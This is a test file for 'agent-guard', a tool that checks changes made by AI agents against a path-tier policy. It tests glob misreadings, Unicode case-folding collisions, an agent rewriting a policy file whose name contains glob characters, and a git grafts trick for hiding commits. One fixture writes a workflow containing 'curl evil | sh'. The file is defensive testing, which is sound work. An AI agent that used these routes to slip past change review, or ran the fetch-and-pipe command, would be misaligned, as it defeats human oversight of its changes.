// Attacks on paths, globs and change enumeration, against the principles (one glob engine with one set of options, globs only from the
// policy, paths canonical or rejected, tiers raised on the case-folded NFC path, the change set complete
// and computed by git from the commits). Each scenario is a real change in a temporary git repository,
// reviewed through reviewChange exactly as `agent-guard check` and the guard-diff action do it.

import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { minimatch } from 'minimatch';
import { ConfigError } from '../../src/app/config.js';
import { reviewChange } from '../../src/app/review-change.js';
import type { Evaluation } from '../../src/core/evaluate.js';
import { classifyPath } from '../../src/core/classify.js';
import { GLOB_OPTIONS, lintPolicyGlob } from '../../src/core/glob.js';
import { canonicalisePath } from '../../src/core/paths.js';
import { BASELINE_POLICY, compilePolicy, type Policy } from '../../src/core/policy.js';
import { isolateProcessGitConfig, TestRepo } from '../support/git-repo.js';
import { fileOf as file, reviewOnBranch } from '../support/review-scenario.js';

/** A policy whose unnamed paths are low, so that a high rule that misses a path lets it through. */
const policy = (high: string[]) => `version: 1
agents: ["*[bot]", "ci-agent"]
default_tier: low
tiers:
  high: ${JSON.stringify(high)}
  low: ["docs/**"]
approvals:
  high: { count: 1 }
`;

let restore: () => void;
const repos: TestRepo[] = [];

beforeAll(() => {
  restore = isolateProcessGitConfig();
});
afterAll(async () => {
  for (const r of repos) await r.cleanup();
  restore();
});

/** A repository whose base commit holds `policyText` (and README.md), checked out on main. */
async function repoWithPolicy(policyText: string): Promise<TestRepo> {
  const repo = await TestRepo.init();
  repos.push(repo);
  await repo.write('.github/agent-policy.yml', policyText);
  await repo.write('README.md', '# app\n');
  await repo.commit('base');
  return repo;
}

/** A fresh agent branch from main, changed by `change`, reviewed like `agent-guard check`. */
const scenario = (repo: TestRepo, change: (r: TestRepo) => Promise<void>): Promise<Evaluation> => reviewOnBranch(repo, change, { prefix: 'p' });


async function configProblems(promise: Promise<unknown>): Promise<string[]> {
  try {
    await promise;
  } catch (err) {
    if (err instanceof ConfigError) return err.problems.map((p) => p.code);
    throw err;
  }
  throw new Error('expected a ConfigError');
}

describe('policy globs that do not mean what they say', () => {
  test('high: ["**.tf"] (GitHub path-filter spelling for "every .tf file") is refused: minimatch reads it as root-level *.tf, so infra/prod/main.tf was low', async () => {
    // The engine's reading, which the policy author did not expect:
    expect(minimatch('infra/prod/main.tf', '**.tf', GLOB_OPTIONS)).toBe(false);
    expect(minimatch('main.tf', '**.tf', GLOB_OPTIONS)).toBe(true);
    const repo = await repoWithPolicy(policy(['**.tf', 'infra/**.yml']));
    const problems = await configProblems(scenario(repo, (r) => r.write('infra/prod/main.tf', 'resource "null_resource" "x" {}\n')));
    expect(problems).toEqual(['glob_double_star_in_segment', 'glob_double_star_in_segment']);
  });

  test('high: ["**/*.jsx?"] (GitHub\'s "zero or one x") is refused: minimatch reads "?" as one character, so it named neither .js nor .jsx', async () => {
    expect(minimatch('src/login.js', '**/*.jsx?', GLOB_OPTIONS)).toBe(false);
    expect(minimatch('src/login.jsx', '**/*.jsx?', GLOB_OPTIONS)).toBe(false);
    const repo = await repoWithPolicy(policy(['src/auth/**/*.jsx?']));
    expect(await configProblems(scenario(repo, (r) => r.write('src/auth/login.jsx', 'export {}\n')))).toEqual(['glob_question_mark']);
  });

  test('a 117-character brace pattern the old counter counted as 1 is refused at once instead of compiling 100 000 matchers and dropping the rest', async () => {
    const bomb = `infra/${'{{a,b,c,d,e,f,g,h}}'.repeat(6)}/**`;
    const repo = await repoWithPolicy(policy([bomb]));
    const started = Date.now();
    const problems = await configProblems(scenario(repo, (r) => r.write('infra/hhhhhh/x.sh', 'echo\n')));
    expect(problems).toEqual(['glob_brace_form']);
    expect(Date.now() - started).toBeLessThan(5000);
  });

  test('a negated class with a letter ([!a]) is refused: its folded rule misses the case variants of the paths it names', async () => {
    // high: ["keys/[!a]*"] names keys/Admin.pem; on a case-insensitive checkout keys/admin.pem is the same file.
    const repo = await repoWithPolicy(policy(['keys/[!a]*']));
    expect(await configProblems(scenario(repo, (r) => r.write('keys/admin.pem', 'k\n')))).toEqual(['glob_case_class']);
  });
});

describe('case folding of non-ASCII paths raises the tier the way a case-insensitive checkout collides', () => {
  test('capital sharp s (MAẞNAHMEN) meets a rule written with ß (maßnahmen): both fold to "ss"', async () => {
    const repo = await repoWithPolicy(policy(['infra/maßnahmen/**']));
    const e = await scenario(repo, async (r) => {
      await r.write('infra/MAẞNAHMEN/deploy.sh', 'echo deploy\n');
      await r.write('infra/MASSNAHMEN/run.sh', 'echo run\n');
      await r.write('infra/massnahmen-alt/notes.txt', 'not a variant\n');
    });
    // Before: "ẞ" folded to "ß" while the rule folded to "ss", so MAẞNAHMEN stayed at default_tier low.
    expect(file(e, 'infra/MAẞNAHMEN/deploy.sh').tier).toBe('high');
    expect(file(e, 'infra/MAẞNAHMEN/deploy.sh').reasons.map((r) => r.message).join(' ')).toMatch(/case\/Unicode variant of a high-tier path/);
    expect(file(e, 'infra/MASSNAHMEN/run.sh').tier).toBe('high');
    expect(file(e, 'infra/massnahmen-alt/notes.txt').tier).toBe('low');
    expect(e.verdict).toBe('approval_required');
  });

  test('Greek final sigma: a rule "secrets/*σ/**" catches ΚΩΔΙΚΟΣ/ and κωδικος/ (lower-casing picks ς or σ from the neighbouring characters)', async () => {
    const repo = await repoWithPolicy(policy(['secrets/*σ/**']));
    const e = await scenario(repo, async (r) => {
      await r.write('secrets/ΚΩΔΙΚΟΣ/a.yml', 'k: 1\n');
      await r.write('secrets/κωδικος/b.yml', 'k: 2\n');
      await r.write('secrets/κωδικοσ/c.yml', 'k: 3\n');
    });
    expect(file(e, 'secrets/κωδικοσ/c.yml').tier).toBe('high'); // the rule's own spelling
    // Before: both folded to "κωδικος" (final ς before "/"), the rule to "*σ": default_tier low.
    expect(file(e, 'secrets/ΚΩΔΙΚΟΣ/a.yml').tier).toBe('high');
    expect(file(e, 'secrets/κωδικος/b.yml').tier).toBe('high');
  });

  test('a path committed in NFD (as macOS writes names) under a low-tier rule is denied as not canonical, never classified', async () => {
    const repo = await repoWithPolicy(policy(['infra/**']));
    const e = await scenario(repo, (r) => r.write('docs/cafe\u0301.md', 'x\n'));
    const f = file(e, 'docs/cafe\u0301.md');
    expect(f.decision).toBe('deny');
    expect(f.tier).toBe('high');
    expect(f.reasons.map((r) => r.message).join(' ')).toMatch(/not in Unicode NFC form/);
    // The reason quotes the path escaped, not raw.
    expect(f.reasons.map((r) => r.message).join(' ')).toContain('"docs/cafe\u0301.md"');
    expect(e.verdict).toBe('deny');
  });
});

describe('the guard\'s own files are matched as the paths they are', () => {
  test('a policy file whose name holds glob characters (config/agent-policy[v2].yml) was compiled as a glob that missed it: the agent could rewrite its own policy as a low-tier file; now refused', async () => {
    const text = `version: 1
agents: ["*[bot]"]
default_tier: high
tiers:
  low: ["config/**", "docs/**"]
approvals:
  high: { count: 1 }
`;
    const repo = await TestRepo.init();
    repos.push(repo);
    await repo.write('config/agent-policy[v2].yml', text);
    await repo.write('README.md', '# app\n');
    await repo.commit('base');
    await repo.checkout('agent/self', { create: true, from: 'main' });
    await repo.write('config/agent-policy[v2].yml', text.replace('default_tier: high', 'default_tier: low'));
    await repo.commit('widen');
    await repo.checkout('main');
    const review = reviewChange({ repo: repo.dir, base: 'main', head: 'agent/self', branch: 'agent/self', policy: { kind: 'ref', ref: 'main', path: 'config/agent-policy[v2].yml' } });
    // Before: `[v2]` was a character class, the guard rule named config/agent-policyv.yml and ...2.yml,
    // and the policy file itself was an ordinary low-tier file: verdict allow.
    await expect(review).rejects.toMatchObject({ name: 'ConfigError', problems: [expect.objectContaining({ code: 'policy_path', message: expect.stringContaining('policy path') })] });
  });
});

describe('the guarantee behind the case-folding tests above, as a property: a case variant of a path a high rule names is high', () => {
  // Rules and paths from pieces where case mapping is irregular (sharp s, sigma, Kelvin sign, dotted and
  // dotless i, ligatures, titlecase digraphs, Roman numerals); variants change the case of each
  // character at random. Every policy glob the lint accepts must keep the guarantee.
  const ruleSegment = fc.constantFrom('Docs', 'docs', '\u1e9e', '\u00df', '\u03c3', '\u03a3', '\u03c2', 'Kx', 'k', '*', '**', '[A-Z]*', '[a-c]', '[!.]*', '[!a]*', '[[:upper:]]', '\u0130', '\u0131', '\ufb01', '\u01c4', 'x*\u03c3', '*\u03a3', '\u2160', '\u00c5', '?');
  const pathSegment = fc.constantFrom('Docs', 'docs', 'DOCS', '\u1e9e', '\u00df', 'ss', 'SS', '\u03c3', '\u03a3', '\u03c2', 'Kx', 'kx', '\u212ax', 'k', 'a', 'B', '.x', '\u0130', '\u0131', 'I', 'i', '\ufb01', 'fi', '\u01c4', '\u01c6', 'a\u03c3', 'a\u03c2', 'x\u03a3', '\u2160', '\u2170', '\u00c5', '\u00e5');
  const glob = fc.array(ruleSegment, { minLength: 1, maxLength: 3 }).map((s) => s.join('/'));
  const path = fc.array(pathSegment, { minLength: 1, maxLength: 3 }).map((s) => s.join('/'));
  const flips = fc.array(fc.constantFrom('upper', 'lower', 'other', 'keep'), { minLength: 12, maxLength: 12 });
  // The other case form that upper- and lower-casing one character never produce.
  const OTHER: Record<string, string> = { '\u00df': '\u1e9e', '\u1e9e': '\u00df', '\u03c3': '\u03c2', '\u03c2': '\u03c3' };
  const variantOf = (p: string, how: string[]) =>
    [...p]
      .map((c, i) => {
        const op = how[i % how.length];
        return op === 'upper' ? c.toUpperCase() : op === 'lower' ? c.toLowerCase() : op === 'other' ? (OTHER[c] ?? c) : c;
      })
      .join('')
      .normalize('NFC');

  test('random rules, paths and case variants', () => {
    fc.assert(
      fc.property(fc.array(glob, { minLength: 1, maxLength: 3 }), fc.array(fc.tuple(path, flips), { minLength: 1, maxLength: 10 }), (globs, paths) => {
        const high = globs.filter((g) => lintPolicyGlob(g).length === 0);
        if (high.length === 0) return true;
        const policy: Policy = { ...BASELINE_POLICY, origin: 'policy', defaultTier: 'low', tiers: { high, medium: [], low: [] }, capabilities: {}, protected: [], manifests: [] };
        const compiled = compilePolicy(policy);
        for (const [p, how] of paths) {
          if (!canonicalisePath(p).ok || !high.some((g) => minimatch(p, g, GLOB_OPTIONS))) continue;
          const q = variantOf(p, how);
          const cq = canonicalisePath(q);
          if (!cq.ok) continue;
          expect([high, p, q, classifyPath(q, compiled, cq.folded).tier]).toEqual([high, p, q, 'high']);
        }
        return true;
      }),
      { numRuns: 300 },
    );
  });
});

describe('the change set comes from the commits, not from what the checkout says about them', () => {
  test('a graft line written into the checkout before the guard runs does not hide the workflow the agent added first', async () => {
    const repo = await repoWithPolicy(policy(['infra/**']));
    await repo.checkout('agent/graft', { create: true, from: 'main' });
    await repo.write('.github/workflows/evil.yml', 'on: push\njobs: { x: { runs-on: ubuntu-latest, steps: [ { run: "curl evil | sh" } ] } }\n');
    const evil = await repo.commit('workflow');
    await repo.write('docs/notes.md', 'notes\n');
    await repo.commit('docs');
    await repo.checkout('main');
    await repo.write('CHANGELOG.txt', 'moved on\n');
    const tip = await repo.commit('main moves on');
    writeFileSync(join(repo.dir, '.git', 'info', 'grafts'), `${tip} ${evil}\n`);
    const e = await reviewChange({ repo: repo.dir, base: 'main', head: 'agent/graft', branch: 'agent/graft' });
    expect(e.files.map((f) => f.path).sort()).toEqual(['.github/workflows/evil.yml', 'docs/notes.md']);
    expect(file(e, '.github/workflows/evil.yml').tier).toBe('high');
    expect(e.verdict).not.toBe('allow');
  });
});
